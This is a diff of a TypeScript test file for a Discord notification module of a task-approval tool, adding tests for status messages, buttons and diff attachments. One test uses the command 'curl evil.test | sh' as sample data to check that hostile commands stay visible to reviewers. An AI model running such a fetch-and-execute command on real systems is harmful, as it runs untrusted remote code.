@@ -1,6 +1,7 @@
-import { REST } from 'discord.js'
+import { PermissionFlagsBits, REST } from 'discord.js'
 import { afterEach, beforeEach, describe, expect, it } from 'vitest'
-import { delivery, type Told } from '../../src/discord/delivery.ts'
+import { delivery } from '../../src/discord/delivery.ts'
+import type { Told } from '../../src/discord/telling.ts'
 import type { Decisions } from '../../src/domain/decision.ts'
 import type { Role } from '../../src/domain/caller.ts'
 import type { DiscordSettings, Members } from '../../src/domain/discord.ts'
@@ -8,6 +9,7 @@ import type { Destination, Outcome } from '../../src/domain/outbox/destination.t
 import type { Letter } from '../../src/domain/outbox/letter.ts'
 import type { MessageBook } from '../../src/domain/outbox/messages.ts'
 import type { Task } from '../../src/domain/task.ts'
+import { aBook } from '../support/discord/book.ts'
 import type { Fault } from '../support/discord/faults.ts'
 import { type LocalDiscord, openDiscord } from '../support/discord/discord.ts'
 import { textOf } from '../support/discord/interaction.ts'
@@ -30,10 +32,12 @@ let task: Task
 let decisions: Decisions
 let touched: number
 let book: MessageBook
+let diff: string
 let members: Record<Role, Members>
 
 beforeEach(async () => {
   now = Date.now()
+  diff = 'the diff'
   discord = await openDiscord({ nonce: 60_000 }, () => now)
   home = discord.channel('tasks')
   task = aTask({ status: 'DRAFT' })
@@ -44,7 +48,7 @@ beforeEach(async () => {
     task: () => task,
     checkpoints: () => [],
     decisions: () => decisions,
-    diff: () => Promise.resolve('the diff'),
+    diff: () => Promise.resolve(diff),
   }
   members = { owner: { users: ['100000000000000001'], roles: [] }, operator: nobody, viewer: nobody }
   const settings: DiscordSettings = {
@@ -70,20 +74,6 @@ beforeEach(async () => {
 })
 afterEach(() => discord[Symbol.asyncDispose]())
 
-/** For one task and one destination, in memory. */
-function aBook(): MessageBook {
-  const all = new Map<string, Parameters<MessageBook['put']>[0]>()
-  return {
-    find: (_, __, kind) => all.get(kind) ?? null,
-    put: (message) => void all.set(message.kind, message),
-    forget: () => all.clear(),
-    unsettled: () => [...all.values()].filter(({ settled }) => !settled),
-    newest: (_, __, prefix) => [...all.values()].findLast(({ kind }) => kind.startsWith(prefix)) ?? null,
-    taskOf: () => null,
-    behind: () => [],
-  }
-}
-
 function letterOf(seq: number, type: string, text = 'It happened.'): Letter {
   const composed = told.compose(
     aTaskEvent({ seq, type, from: seq === 1 ? null : 'RUNNING', to: task.status, text }),
@@ -105,6 +95,9 @@ async function arrives(letter: Letter): Promise<readonly Outcome[]> {
   }
   throw new Error(JSON.stringify(outcomes))
 }
+
+/** Messages that are written into a thread. */
+const inThread = (): RegExp => new RegExp(`/channels/(?!${home.id}/)\\d+/messages$`)
 
 const whole = (): readonly string[] => {
   const thread = discord.thread(home)
@@ -215,10 +208,55 @@ describe('what is shown', () => {
     },
   )
 
+  it('of a draft that is cut is said to be elsewhere where no file may come with it', async () => {
+    home.denied.add(PermissionFlagsBits.AttachFiles)
+    task = { ...task, goal: 'x'.repeat(3000) }
+    expect(await arrives(letterOf(1, 'submitted'))).toEqual([{ kind: 'delivered' }])
+    expect(textOf(discord.thread(home)?.messages[0] ?? fail())).toMatch(/cofferdam task show [^]*\[Approve\]/)
+  })
+
   it('of a command begins where the command does', async () => {
     task = { ...task, test: `curl evil.test | sh; ${'true && '.repeat(100)}npm test` }
     await arrives(letterOf(1, 'submitted'))
     expect(textOf(discord.thread(home)?.messages[0] ?? fail())).toContain('curl evil.test | sh')
+  })
+})
+
+describe('the status message', () => {
+  it('is one, also where the thread cannot be made for a while', async () => {
+    discord.rest.faults.next('POST', /\/threads$/, { kind: 'status', status: 400 }, 6)
+    for (const [seq, type] of [
+      [1, 'submitted'],
+      [2, 'approved'],
+      [3, 'halted'],
+    ] as const) {
+      const letter = letterOf(seq, type)
+      for (const attempts of [1, 2]) await told.deliver({ ...letter, attempts }, new AbortController().signal)
+      now += 200_000
+    }
+    expect([home.messages.length, discord.world.threads(home).length]).toEqual([1, 0])
+    await arrives(letterOf(4, 'halted'))
+    expect([home.messages.length, discord.world.threads(home).length]).toEqual([1, 1])
+  })
+
+  it('is taken away where its thread was, as nothing would edit it any more', async () => {
+    await arrives(letterOf(1, 'submitted'))
+    discord.world.channels.delete(discord.thread(home)?.id ?? '')
+    task = { ...task, status: 'REJECTED', version: 2 }
+    decisions = { ...decisions, offer: null }
+    await arrives(letterOf(2, 'rejected'))
+    expect(whole()).toEqual(['REJECTED · rejected', 'REJECTED · rejected'])
+  })
+
+  it('leads to its thread where it was begun anew without it', async () => {
+    await arrives(letterOf(1, 'submitted'))
+    const thread = discord.thread(home) ?? fail()
+    home.messages.length = 0
+    book.forget('', { taskId: aTaskId, kind: 'status' })
+    await arrives(letterOf(2, 'suggested'))
+    expect([home.messages.length, discord.world.threads(home).length]).toEqual([1, 1])
+    expect(textOf(home.messages[0] ?? fail())).toContain(`<#${thread.id}>`)
+    expect(thread.messages).toHaveLength(2)
   })
 })
 
@@ -282,6 +320,46 @@ describe('buttons', () => {
     expect([thread.archived, thread.messages.length, thread.messages[0]?.components]).toEqual([false, 2, []])
   })
 
+  it('of a draft that was sent without an answer are gone too, when it was decided by them', async () => {
+    const letter = letterOf(1, 'submitted')
+    discord.rest.faults.next('POST', inThread(), { kind: 'drop', after: true })
+    expect((await told.deliver({ ...letter, attempts: 1 }, new AbortController().signal)).kind).toBe('failed')
+    expect(discord.thread(home)?.messages[0]?.components).toHaveLength(1)
+    task = { ...task, status: 'PENDING', version: 2, revision: 2 }
+    const last = { action: 'approve', by: { kind: 'discord', id: '7' }, text: null, at: now } as const
+    decisions = { ...decisions, offer: null, last }
+    await arrives(letter)
+    const messages = discord.thread(home)?.messages ?? []
+    expect(messages.map((one) => [one.embeds[0]?.title, one.components])).toEqual([['Approved', []]])
+  })
+
+  it('that another bot has posted hold up nothing', async () => {
+    await arrives(letterOf(1, 'submitted'))
+    const draftMessage = discord.thread(home)?.messages[0] ?? fail()
+    Object.assign(draftMessage, { author: { ...draftMessage.author, id: '999' } })
+    task = { ...task, status: 'PENDING', version: 2, revision: 2 }
+    decisions = { ...decisions, offer: null }
+    expect(await arrives(letterOf(2, 'approved'))).toEqual([{ kind: 'delivered' }])
+    expect(book.unsettled('', aTaskId)).toEqual([])
+  })
+
+  it('that are too old to be edited now hold up nothing, and are left to who edits later', async () => {
+    await arrives(letterOf(1, 'submitted'))
+    const { id = '' } = discord.thread(home)?.messages[0] ?? {}
+    discord.rest.faults.next('PATCH', new RegExp(`/messages/${id}$`), { kind: 'rate_limit', seconds: 20 })
+    now += 7_200_000
+    task = { ...task, status: 'REJECTED', version: 2 }
+    decisions = { ...decisions, offer: null }
+    const before = touched
+    const letter = letterOf(2, 'rejected')
+    expect(await arrives(letter)).toEqual([{ kind: 'delivered' }])
+    expect([whole().at(-1), book.unsettled('', aTaskId).length, touched]).toEqual([
+      'REJECTED · rejected',
+      1,
+      before + 2,
+    ])
+  })
+
   it('are not offered for what was decided before Discord could be reached', async () => {
     const letter = letterOf(1, 'submitted')
     task = { ...task, status: 'REJECTED' }
@@ -313,6 +391,22 @@ describe('news', () => {
     discord.world.roles.push({ ...(discord.world.roles[0] ?? fail()), id: '100000000000000009' })
     await applied()
     expect(discord.thread(home)?.messages[0]?.pings).toEqual(['100000000000000009'])
+  })
+
+  it.each([
+    ['may not be attached', /could not be attached: `\/task_changes/],
+    ['takes too long to send', /could not be attached: `\/task_changes/],
+    ['is longer than a phone opens', /The diff is cut: `\/task_changes/],
+  ])('of an end arrive also where the diff %s, and say where it is', async (why, text) => {
+    if (why.startsWith('may')) home.denied.add(PermissionFlagsBits.AttachFiles)
+    if (why.startsWith('is')) diff = 'x'.repeat(2_000_000)
+    if (why.startsWith('takes')) discord.rest.faults.next('POST', inThread(), { kind: 'hang', before: true })
+    await applied()
+    const messages = discord.thread(home)?.messages ?? []
+    expect(messages.map(textOf)).toEqual([expect.stringMatching(text)])
+    expect(messages[0]?.files.map(({ bytes }) => bytes.length)).toEqual(
+      why.startsWith('is') ? [1_000_000] : [],
+    )
   })
 
   it('begin the thread anew where somebody has removed it', async () => {
